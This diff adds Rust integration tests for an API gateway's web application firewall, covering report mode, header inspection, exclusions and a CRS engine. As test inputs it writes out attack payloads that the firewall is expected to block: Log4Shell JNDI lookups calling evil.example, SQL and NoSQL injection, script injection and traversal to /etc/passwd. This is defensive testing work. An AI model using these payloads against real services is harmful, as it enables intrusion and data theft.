@@ -315,3 +315,288 @@ async fn waf_exclude_prints_the_exclusion_that_lets_a_refused_request_through() 
     )
     .await;
 }
+
+#[tokio::test]
+async fn report_mode_per_family_and_route_body_types_and_every_header() {
+    let gw = start(&format!(
+        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nreport_families = [\"template\"]\n{ROUTES}\n\
+         [[routes]]\nid = \"watched\"\npath_prefix = \"/watched\"\nupstream = \"main\"\nwaf = \"report\"\n"
+    ))
+    .await;
+    let decision_of = |resp: &reqwest::Response| resp.headers()["x-request-id"].to_str().unwrap().to_owned();
+
+    // A family in report mode: passes, traced as would-deny with the rule and part.
+    let resp = post(&gw, "/guarded/greet", "application/json", r#"{"greeting":"{{7*7}}"}"#).await;
+    assert_eq!(resp.status(), 200);
+    let d = gw.decision(&decision_of(&resp)).await;
+    let entry = d
+        .trace
+        .iter()
+        .find(|t| t.reason == Some(pinpoint_core::Reason::WafTemplate))
+        .unwrap();
+    assert_eq!(entry.mark, pinpoint_core::Mark::WouldDeny);
+    let note = entry.note.as_deref().unwrap();
+    assert!(
+        note.contains("template-expression (waf.template, pl1, +5, report) at body:/greeting"),
+        "{note}"
+    );
+    // ... while the other families still enforce, also beside a reported one.
+    let both = r#"{"greeting":"{{7*7}}","q":"1' OR '1'='1"}"#;
+    problem(
+        post(&gw, "/guarded/login", "application/json", both).await,
+        403,
+        "waf.sqli",
+    )
+    .await;
+    // A route in report mode refuses nothing and traces everything.
+    let resp = post(
+        &gw,
+        "/watched/x",
+        "application/json",
+        r#"{"q":"<script>alert(1)</script>"}"#,
+    )
+    .await;
+    assert_eq!(resp.status(), 200);
+    let d = gw.decision(&decision_of(&resp)).await;
+    assert!(d
+        .trace
+        .iter()
+        .any(|t| t.reason == Some(pinpoint_core::Reason::WafXss) && t.mark == pinpoint_core::Mark::WouldDeny));
+
+    // Any header a server might log: Log4Shell in a custom header and in Authorization.
+    for (name, value) in [
+        ("x-api-version", "${jndi:ldap://evil.example/a}"),
+        ("authorization", "Bearer ${${lower:j}ndi:ldap://evil.example/a}"),
+    ] {
+        let resp = gw
+            .http
+            .get(gw.url("/guarded/x"))
+            .header(name, value)
+            .send()
+            .await
+            .unwrap();
+        let body = problem(resp, 403, "waf.jndi").await;
+        assert!(
+            body["detail"].as_str().unwrap().contains(&format!("`header:{name}`")),
+            "{body}"
+        );
+    }
+    // Other attacks in custom headers; structured ones (Accept) are not read as prose.
+    let resp = gw
+        .http
+        .get(gw.url("/guarded/x"))
+        .header("x-comment", "1' OR '1'='1")
+        .send()
+        .await
+        .unwrap();
+    problem(resp, 403, "waf.sqli").await;
+    let resp = gw
+        .http
+        .get(gw.url("/guarded/x"))
+        .header("accept", "text/html;q=0.9, */*;q=0.8")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+
+    // NoSQL operators in bracketed names (read as objects by PHP, qs and Rails); traversal
+    // to system files, file: URLs and `..;/`; script URIs.
+    for (request, reason, part) in [
+        (
+            gw.http.get(gw.url("/guarded/login?user=a&pass[%24ne]=x")),
+            "waf.nosql",
+            "query:pass[$ne]",
+        ),
+        (
+            gw.http
+                .post(gw.url("/guarded/login"))
+                .header("content-type", "application/x-www-form-urlencoded")
+                .body("user[$regex]=.*"),
+            "waf.nosql",
+            "form:user[$regex]",
+        ),
+        (
+            gw.http.get(gw.url("/guarded/f?name=%2Fetc%2Fpasswd")),
+            "waf.traversal",
+            "query:name",
+        ),
+        (
+            gw.http.get(gw.url("/guarded/f?src=file%3A%2F%2F%2Fetc%2Fhosts")),
+            "waf.traversal",
+            "query:src",
+        ),
+        (
+            gw.http.get(gw.url("/guarded/f?next=%2Fapp%2F..%3B%2Fadmin")),
+            "waf.traversal",
+            "query:next",
+        ),
+        (
+            gw.http.get(gw.url("/guarded/f?link=JaVaScRiPt%3Aalert(1)")),
+            "waf.xss",
+            "query:link",
+        ),
+    ] {
+        let body = problem(request.send().await.unwrap(), 403, reason).await;
+        assert!(
+            body["detail"].as_str().unwrap().contains(&format!("`{part}`")),
+            "{reason}: {body}"
+        );
+    }
+    let resp = gw
+        .http
+        .get(gw.url("/guarded/f?title=javascript%3A+the+good+parts"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+
+    // A body type the WAF does not accept is refused as such (415), before its body is read.
+    let resp = post(&gw, "/guarded/x", "application/x-shockwave-flash", "CWS").await;
+    let body = problem(resp, 415, "waf.content_type").await;
+    assert!(
+        body["detail"]
+            .as_str()
+            .unwrap()
+            .contains("application/x-shockwave-flash"),
+        "{body}"
+    );
+    assert_eq!(
+        post(&gw, "/guarded/x", "application/vnd.api+json", r#"{"a":"b"}"#)
+            .await
+            .status(),
+        200
+    );
+    // A bad value for a route's waf is a config error naming it.
+    let bad = ROUTES.replace("waf = true", "waf = \"maybe\"");
+    let err = pinpoint_core::config::Config::parse(&bad, "bad.toml")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("waf must be true, false or \"report\""), "{err}");
+}
+
+#[tokio::test]
+async fn config_check_names_exclusions_that_never_applied() {
+    let exclusions = "\n[[waf.exclusions]]\nid = \"cms-html\"\nroutes = [\"guarded\"]\nrules = [\"xss\"]\nparts = [\"body:/article/html\"]\n\n[[waf.exclusions]]\nid = \"stale\"\nparts = [\"query:legacy\"]\n";
+    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}{exclusions}")).await;
+    let article = r#"{"article":{"html":"<p>Hi</p><script>track()</script>"}}"#;
+    let resp = post(&gw, "/guarded/cms", "application/json", article).await;
+    assert_eq!(resp.status(), 200);
+    let id = resp.headers()["x-request-id"].to_str().unwrap().to_owned();
+    let d = gw.decision(&id).await;
+    let applied = d
+        .trace
+        .iter()
+        .filter(|t| t.layer.as_ref() == "waf")
+        .find_map(|t| t.rule_id.as_deref());
+    assert_eq!(applied, Some("excluded by cms-html"));
+
+    let path = gw.config_path.clone();
+    let out = tokio::task::spawn_blocking(move || {
+        std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
+            .args(["config", "check"])
+            .arg(&path)
+            .output()
+    })
+    .await
+    .unwrap()
+    .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let printed = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        printed.contains("warning: waf exclusion `stale` never applied to a request in the decision log"),
+        "{printed}"
+    );
+    assert!(!printed.contains("`cms-html` never"), "{printed}");
+}
+
+/// The CRS engine (a build with `--features modsecurity`): the same refusals, parts and
+/// trace as the built-in engine, with CRS rule ids; exclusions by CRS id; a CRS engine
+/// that cannot load is a config error naming the file.
+#[cfg(feature = "modsecurity")]
+#[tokio::test]
+async fn the_crs_engine_refuses_and_traces_like_the_builtin_one() {
+    let gw = start(&format!(
+        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nengine = \"crs\"\n{ROUTES}"
+    ))
+    .await;
+    let resp = gw
+        .http
+        .get(gw.url("/guarded/items?id=1%27%20OR%20%271%27%3D%271"))
+        .header("host", "shop.example")
+        .header("user-agent", "Mozilla/5.0")
+        .send()
+        .await
+        .unwrap();
+    let body = problem(resp, 403, "waf.sqli").await;
+    assert!(body["detail"].as_str().unwrap().contains("`query:id`"), "{body}");
+    let d = gw.decision(body["request_id"].as_str().unwrap()).await;
+    let entry = d.deciding_layer().unwrap();
+    assert_eq!(entry.rule_id.as_deref(), Some("942100"));
+    let note = entry.note.as_deref().unwrap();
+    assert!(
+        note.starts_with("crs: score") && note.contains("(waf.sqli, pl1, +5) at query:id") && !note.contains("'1'='1"),
+        "{note}"
+    );
+    // JSON bodies are parsed by ModSecurity and named by pointer.
+    let resp = gw
+        .http
+        .post(gw.url("/guarded/x"))
+        .header("host", "shop.example")
+        .header("user-agent", "Mozilla/5.0")
+        .header("content-type", "application/json")
+        .body(r#"{"items":[{"note":"<script>alert(1)</script>"}]}"#)
+        .send()
+        .await
+        .unwrap();
+    let body = problem(resp, 403, "waf.xss").await;
+    assert!(
+        body["detail"].as_str().unwrap().contains("`body:/items/0/note`"),
+        "{body}"
+    );
+    let benign = gw
+        .http
+        .post(gw.url("/guarded/x"))
+        .header("host", "shop.example")
+        .header("user-agent", "Mozilla/5.0")
+        .header("content-type", "application/json")
+        .body(r#"{"name":"O'Brien","note":"Please select a size"}"#)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(benign.status(), 200);
+
+    // A CRS that cannot load is a config error with the path at fault.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("crs.toml");
+    std::fs::write(
+        &path,
+        format!("[waf]\nengine = \"crs\"\ncrs_rules = \"/nonexistent/crs\"\n{ROUTES}"),
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
+        .args(["config", "check"])
+        .arg(&path)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("/nonexistent/crs does not exist"), "{err}");
+}
+
+/// Without the `modsecurity` feature, asking for the CRS engine is a config error that
+/// says how to get it.
+#[cfg(not(feature = "modsecurity"))]
+#[test]
+fn the_crs_engine_needs_its_build() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("crs.toml");
+    std::fs::write(&path, format!("[waf]\nengine = \"crs\"\n{ROUTES}")).unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
+        .args(["config", "check"])
+        .arg(&path)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("--features modsecurity"), "{err}");
+}
